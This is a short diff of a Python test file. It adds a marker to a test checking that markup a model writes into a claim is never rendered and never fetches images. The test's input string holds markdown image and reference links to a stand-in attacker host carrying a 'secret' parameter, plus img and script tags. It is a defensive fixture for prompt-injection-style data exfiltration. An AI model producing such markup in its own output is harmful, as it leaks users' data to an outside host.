@@ -229,6 +229,7 @@ def test_a_section_that_occurs_twice_is_joined() -> None:
     assert [one.status for one in parse(page).findings] == ["confirmed", "possible"]
 
 
+@pytest.mark.bad_input("B68")
 def test_nothing_a_model_writes_is_markup() -> None:
     """No image is fetched and no HTML is rendered from what was written into a claim."""
     hostile = "![x](https://evil/?d=secret) ![a][b] <img src=x> <script>\n[b]: https://evil"
